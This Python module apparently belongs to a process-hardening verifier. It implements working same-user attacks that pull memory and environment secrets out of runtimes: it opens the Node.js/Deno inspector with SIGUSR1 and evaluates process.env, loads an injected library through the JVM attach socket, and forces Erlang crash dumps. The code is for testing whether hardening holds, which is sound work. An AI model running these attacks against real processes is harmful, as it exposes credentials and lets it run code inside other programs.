"""Make runtimes disclose memory via an inspector, the JVM's attach socket or Erlang's crash dump.

The kernel refuses nothing here, because the program itself answers. runtimes.py says how to disable
each of these interfaces.
"""

from __future__ import annotations

import base64
import errno
import json
import os
import signal
import socket
import time
from collections.abc import Iterator
from contextlib import suppress

from process_hardening.audit.procfs import parse_bits, parse_status
from process_hardening.verify.attacks.injection import (
    ask_library,
    build_library,
    find_missing_compiler,
)
from process_hardening.verify.attacks.reading import (
    SAME_USER,
    find_nothing_missing,
    search_chunks,
)
from process_hardening.verify.model import (
    CHANGES,
    KILLS,
    TOOL,
    Attack,
    Attempt,
    NoResultError,
    Target,
)

_OPEN_SECONDS = 4.0
_CATCH_SECONDS = 2.0  # Deno starts to catch the signal after half a second
_SECONDS = 8.0
_PORT = 9229  # the inspector's
_LISTENING = "0A"  # TCP_LISTEN, include/net/tcp_states.h
_KEY = "AAAAAAAAAAAAAAAAAAAAAA=="  # base64 of any 16 bytes; RFC 6455
_DUMP_VARIABLE = "ERL_CRASH_DUMP"


def _signal_once_caught(pid: int, number: signal.Signals) -> bool:
    """Send a signal once the process catches it. Return False if the process never does."""
    deadline = time.monotonic() + _CATCH_SECONDS
    while time.monotonic() < deadline:
        with open(f"/proc/{pid}/status", "rb") as file:
            caught = parse_bits(parse_status(file.read()), "SigCgt") or 0
        if caught >> number - 1 & 1:
            os.kill(pid, number)
            return True
        time.sleep(0.05)
    return False


def _list_ports() -> set[int]:
    """Return the TCP ports in state LISTEN (see proc_net_tcp in the kernel's documentation)."""
    ports = set()
    for name in ("tcp", "tcp6"):
        with suppress(OSError), open(f"/proc/net/{name}", encoding="ascii") as file:
            for line in list(file)[1:]:
                _, local, _, state, *_ = line.split()
                if state == _LISTENING:
                    ports.add(int(local.rpartition(":")[2], 16))
    return ports


def _wait_for_port() -> set[int]:
    """Wait until an earlier victim has left the inspector's port; return the ports in use.

    Raises NoResultError if the port stays in use: even an unprotected target could not open it.
    """
    deadline = time.monotonic() + _CATCH_SECONDS
    while _PORT in (ports := _list_ports()):
        if time.monotonic() > deadline:
            raise NoResultError(f"port {_PORT} is in use, so no inspector can open: free it")
        time.sleep(0.05)
    return ports


class Inspector:
    """A connection to an inspector: the Chrome DevTools Protocol over a WebSocket (RFC 6455).

    port -- the port on 127.0.0.1. Raises OSError or ValueError if no inspector answers there.
    """

    def __init__(self, port: int) -> None:
        import urllib.request  # slow to import, and few attacks need it
        from urllib.parse import urlsplit

        with urllib.request.urlopen(f"http://127.0.0.1:{port}/json/list", timeout=_SECONDS) as page:
            path = urlsplit(json.load(page)[0]["webSocketDebuggerUrl"]).path
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=_SECONDS)
        self._socket.sendall(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {_KEY}\r\n"
            "Sec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        self._file = self._socket.makefile("rb")
        while self._file.readline().strip():
            continue

    def close(self) -> None:
        """Close the connection."""
        self._file.close()
        self._socket.close()

    def call(self, method: str, **parameters: object) -> Iterator[dict[str, object]]:
        """Send a command, and yield every message up to and including its answer."""
        text = json.dumps({"id": 1, "method": method, "params": parameters}).encode()
        # One unfragmented text frame of fewer than 65536 bytes, masked with zeros.
        self._socket.sendall(b"\x81\xfe" + len(text).to_bytes(2, "big") + bytes(4) + text)
        while True:
            message = json.loads(self._read_message())
            yield message
            if message.get("id") == 1:
                return

    def evaluate(self, expression: str) -> str:
        """Return the value of an expression, as text; '' if it has none."""
        *_, answer = self.call("Runtime.evaluate", expression=expression)
        result = answer.get("result")
        value = result.get("result", {}).get("value") if isinstance(result, dict) else None
        return "" if value is None else str(value)

    def _read_message(self) -> bytes:
        message = b""
        while True:
            head = self._read(2)
            length = head[1] & 127
            if length >= 126:
                length = int.from_bytes(self._read(2 if length == 126 else 8), "big")
            message += self._read(length)
            if head[0] & 128:
                return message

    def _read(self, length: int) -> bytes:
        data = self._file.read(length)
        if len(data) < length:
            raise ConnectionResetError("the inspector closed the connection")
        return data


def _open_inspector(target: Target) -> Inspector | None:
    """Make the target open its inspector; return a connection to it, or None if none opens."""
    from http.client import HTTPException

    before = _wait_for_port()
    if not _signal_once_caught(target.pid, signal.SIGUSR1):
        return None
    deadline = time.monotonic() + _OPEN_SECONDS
    while time.monotonic() < deadline:
        time.sleep(0.05)
        for port in _list_ports() - before:
            with suppress(OSError, ValueError, LookupError, HTTPException):  # not an inspector
                inspector = Inspector(port)
                if inspector.evaluate("process.pid") == str(target.pid):
                    return inspector
                inspector.close()
    return None


def ask_inspector(target: Target) -> Attempt:
    """Make the target open its inspector; read its environment and the strings in its heap."""
    inspector = _open_inspector(target)
    if inspector is None:
        return Attempt(False, "no inspector opened on SIGUSR1", refused=True)
    try:
        environment = inspector.evaluate("JSON.stringify(process.env)")
        places = target.places_in(environment.encode())
        if not places:
            messages = inspector.call("HeapProfiler.takeHeapSnapshot")
            places, _ = search_chunks(target, (json.dumps(one).encode() for one in messages))
    finally:
        inspector.close()
    return Attempt(bool(places), "its inspector opened on SIGUSR1 and ran code", places=places)


def attach_to_jvm(pid: int) -> socket.socket | None:
    """Make a JVM open its attach socket; return a connection to it, or None if none opens.

    Raises NoResultError if the file that requests it already exists: it may be a planted link.
    """
    path = f"/tmp/.java_pid{pid}"
    request = f"/tmp/.attach_pid{pid}"
    try:
        # As the JDK does (VirtualMachineImpl.c: createAttachFile0()); O_EXCL follows no links.
        os.close(os.open(request, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_CLOEXEC, 0o600))
    except FileExistsError:
        raise NoResultError(f"{request} already exists: remove it") from None
    try:
        if not _signal_once_caught(pid, signal.SIGQUIT):
            return None
        deadline = time.monotonic() + _OPEN_SECONDS
        while not os.path.exists(path):
            if time.monotonic() > deadline:
                return None
            time.sleep(0.05)
        connection = socket.socket(socket.AF_UNIX)
        try:
            connection.settimeout(_SECONDS)
            connection.connect(path)
            os.unlink(path)  # the JVM may exit without removing the socket
        except OSError:
            connection.close()
            raise
    finally:
        os.unlink(request)
    return connection


def load_library(target: Target) -> Attempt:
    """Make a JVM open its attach socket and load a library that discloses its memory."""
    library = build_library(target.folder, fifos_in_environment=False)
    connection = attach_to_jvm(target.pid)
    if connection is None:
        return Attempt(False, "no attach socket opened on SIGQUIT", refused=True)
    with connection:
        words = ("1", "load", library, "true", "")
        connection.sendall("".join(f"{word}\0" for word in words).encode())
        with suppress(OSError):
            connection.recv(1 << 16)
    deadline = time.monotonic() + _OPEN_SECONDS
    while (attempt := ask_library(target)).errno == errno.ENXIO and time.monotonic() < deadline:
        time.sleep(0.05)  # the library's thread has yet to start
    return attempt


def _direct_dump(folder: str) -> dict[str, str]:
    """Return a variable with the dump's path, so none in the working directory is overwritten."""
    return {_DUMP_VARIABLE: os.path.join(folder, "erl_crash.dump")}


def _in_base64(needle: bytes) -> list[bytes]:
    """Return the base64 forms of a text at the three possible offsets, without their ends."""
    return [base64.b64encode(bytes(at) + needle)[4:-4] for at in range(3)]


def read_crash_dump(target: Target) -> Attempt:
    """Make Erlang write a crash dump, and look for the secrets in it."""
    victim = target.victim
    assert victim is not None
    if not _signal_once_caught(target.pid, signal.SIGUSR1):
        return Attempt(False, "it does not catch SIGUSR1", refused=True)
    victim.wait(_SECONDS)
    try:
        with open(victim.environment[_DUMP_VARIABLE], "rb") as file:
            dump = file.read()
    except FileNotFoundError:
        return Attempt(False, "no crash dump was written on SIGUSR1", refused=True)
    places = tuple(
        place
        for place, needle in target.needles.items()
        if any(part and part in dump for part in (needle, *_in_base64(needle)))
    )
    return Attempt(bool(places), f"its crash dump has {len(dump)} bytes", places=places)


ATTACKS = (
    Attack(
        name="node-inspector",
        kind=TOOL,
        summary="make its runtime open an inspector and run code there",
        type="runtime",
        targets="Node.js and Deno",
        requires=SAME_USER,
        refusal="no inspector opens",
        effect=CHANGES,
        command="kill(PID, SIGUSR1); Runtime.evaluate at 127.0.0.1:9229",
        find_missing=find_nothing_missing,
        run=ask_inspector,
        alone=True,  # the port is the same for all
        runtimes=("Node.js", "Deno"),
        timeout=25.0,
    ),
    Attack(
        name="jvm-attach",
        kind=TOOL,
        summary="make the JVM open its attach socket and load a library",
        type="runtime",
        targets="the JVM",
        requires=f"{SAME_USER}; a C compiler",
        refusal="no attach socket opens",
        effect=CHANGES,
        command="/tmp/.attach_pidPID; kill(PID, SIGQUIT); load injected.so at /tmp/.java_pidPID",
        find_missing=find_missing_compiler,
        run=load_library,
        runtimes=("the JVM",),
        timeout=25.0,
    ),
    Attack(
        name="erlang-crash-dump",
        kind=TOOL,
        summary="make Erlang write a crash dump and read it",
        type="runtime",
        targets="Erlang; a secret in an Erlang process, given with --canary",
        requires=SAME_USER,
        refusal="no crash dump is written",
        effect=KILLS,
        command="kill(PID, SIGUSR1); read erl_crash.dump",
        find_missing=find_nothing_missing,
        run=read_crash_dump,
        prepare_environment=_direct_dump,
        runtimes=("Erlang",),
        timeout=25.0,
    ),
)
